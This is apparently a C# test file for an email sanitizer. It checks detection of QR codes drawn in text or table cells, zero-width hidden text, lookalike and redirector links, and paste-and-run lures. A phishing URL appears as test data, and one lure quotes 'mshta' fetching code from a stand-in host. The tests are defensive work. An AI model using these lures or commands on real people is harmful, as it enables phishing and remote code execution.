using System.Collections;
using System.Text;
using MailSanitizer.Content.Tests.PartWalking;
using QRCoder;

namespace MailSanitizer.Content.Tests.Disarming.PlainText;

/// <summary>Lures in plain text, and QR codes that are drawn with letters or cells.</summary>
public sealed class TextLureTests
{
    private const string Target = "https://login.evil.example/";

    private static RecordingSink Mail(string body, string type = "text/plain") =>
        Walks.Walk(Encoding.UTF8.GetBytes($"From: a@example.com\r\nMIME-Version: 1.0\r\nContent-Type: {type}; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n{body}\r\n"), handlers: PartHandlers.All);

    // Four modules of light around, as the generator gives it.
    private static List<BitArray> Modules(string text)
    {
        using QRCodeData data = QRCodeGenerator.GenerateQrCode(text, QRCodeGenerator.ECCLevel.M);
        return data.ModuleMatrix;
    }

    private static string Draw(List<BitArray> modules, string how)
    {
        StringBuilder drawn = new();
        bool Dark(int y, int x) => y < modules.Count && modules[y][x] != how.StartsWith("light", StringComparison.Ordinal);
        bool halves = how.EndsWith("half", StringComparison.Ordinal);
        for (int y = 0; y < modules.Count; y += halves ? 2 : 1)
        {
            for (int x = 0; x < modules.Count; x++)
            {
                if (halves) drawn.Append((Dark(y, x), Dark(y + 1, x)) switch { (true, true) => '█', (true, false) => '▀', (false, true) => '▄', _ => '\u00A0' });
                else drawn.Append(Dark(y, x) ? "██" : "\u00A0\u00A0");
            }

            drawn.Append('\n');
        }

        return drawn.ToString();
    }

    [Theory]
    [InlineData("dark full")]
    [InlineData("light full")]
    [InlineData("dark half")]
    [InlineData("light half")]
    public void A_code_of_block_characters_is_read(string how)
    {
        string drawn = Draw(Modules(Target), how);
        foreach (RecordingSink sink in new[]
        {
            Mail("Scan this:\n\n" + drawn + "\nThank you"),
            Mail($"<html><p>Scan this:</p><pre>{drawn}</pre></html>", "text/html"),
            Mail($"<html><div>Scan</div><table><tr>\n<td>{drawn.Replace("\n", "<br>\n", StringComparison.Ordinal)}</td></tr></table></html>", "text/html"),
        })
        {
            Assert.Contains(sink.Findings, finding => finding.Kind == "qr-code-drawn" && finding.Detail == "to login.evil.example");
            Assert.Contains(sink.Links, link => link is { Url: Target, Source: "qr" });
        }
    }

    [Theory]
    [InlineData("<td bgcolor=#000></td>", "<td bgcolor=white></td>")]
    [InlineData("<td style='background:black'>", "<td>")]
    [InlineData("<td class=b>", "<td class=w>")]
    public void A_code_of_table_cells_is_read(string dark, string light)
    {
        StringBuilder table = new("<html><table>");
        foreach (BitArray row in Modules(Target))
        {
            table.Append("<tr>");
            foreach (bool isDark in row) table.Append(isDark ? dark : light);
            table.Append("</tr>\n");
        }

        RecordingSink sink = Mail(table.Append("</table></html>").ToString(), "text/html");
        Assert.Contains("qr-code-drawn", sink.Kinds);
        Assert.Contains(sink.Links, link => link is { Url: Target, Source: "qr" });
    }

    [Fact]
    public void A_drawn_code_that_nobody_reads_is_noted_and_a_drawing_is_not()
    {
        List<BitArray> modules = Modules(Target);
        for (int y = 12; y < modules.Count - 12; y++)
            for (int x = 4; x < modules.Count - 4; x++) modules[y][x] = true;
        Assert.Contains(Mail(Draw(modules, "dark full")).Findings, finding => finding is { Kind: "qr-code-drawn", Detail: "not readable" });
        foreach (BitArray row in modules) row.SetAll(true);
        Assert.DoesNotContain("qr-code-drawn", Mail(Draw(modules, "dark full")).Kinds);
        Assert.DoesNotContain("qr-code-drawn", Mail("███████\n█ ▄▄▄ █\nprogress ▒▒▒▒▒░░░").Kinds);
        string layout = string.Concat(Enumerable.Repeat("<tr>" + string.Concat(Enumerable.Repeat("<td bgcolor=#fff>1</td><td bgcolor=#eee>2</td>", 20)) + "</tr>", 40));
        Assert.DoesNotContain("qr-code-drawn", Mail($"<html><table>{layout}</table></html>", "text/html").Kinds);
    }

    [Theory]
    [InlineData("paste-instruction", "Press Win+R, then Ctrl+V and Enter:\r\n\r\nmshta https://evil.example/a")]
    [InlineData("paste-instruction", "「ファイル名を指定して実行」に貼り付けてください。\r\npowershell -w hidden")]
    [InlineData("hidden-text", "pass\u200Bword in\u200Bvoice ac\u200Bcount")]
    [InlineData("lookalike-link", "see https://xn--80ak6aa92e.com/ now")]
    [InlineData("redirector-link", "see https://www.google.com/url?q=https%3A%2F%2Fevil.example%2F now")]
    public void A_lure_in_plain_text_is_noted(string kind, string body) => Assert.Contains(kind, Mail(body).Kinds);

    [Fact]
    public void Links_of_a_body_are_facts()
    {
        RecordingSink sink = Mail("詳細は https://a.example/x?y=1。または（https://b.example/）、https://a.example/x?y=1");
        Assert.Equal([("https://a.example/x?y=1", "text"), ("https://b.example/", "text")], sink.Links.Select(link => (link.Url, link.Source)));
    }

    [Fact]
    public void Nothing_is_said_of_ordinary_text_and_nothing_is_changed()
    {
        byte[] log = Encoding.ASCII.GetBytes(string.Concat(Enumerable.Range(0, 5_000).Select(line => $"GET https://a{line}.example/ 200\r\n")));
        Disarmed run = Disarmed.Run(new DisarmSample("access.txt", log));
        Assert.Empty(run.Before.Findings);
        Assert.Empty(run.Before.Links);
        Assert.True(run.IsUnchanged);
        Assert.Empty(Mail("こんにちは。資料は https://www.example.jp/ をご覧ください。").Findings);
    }
}
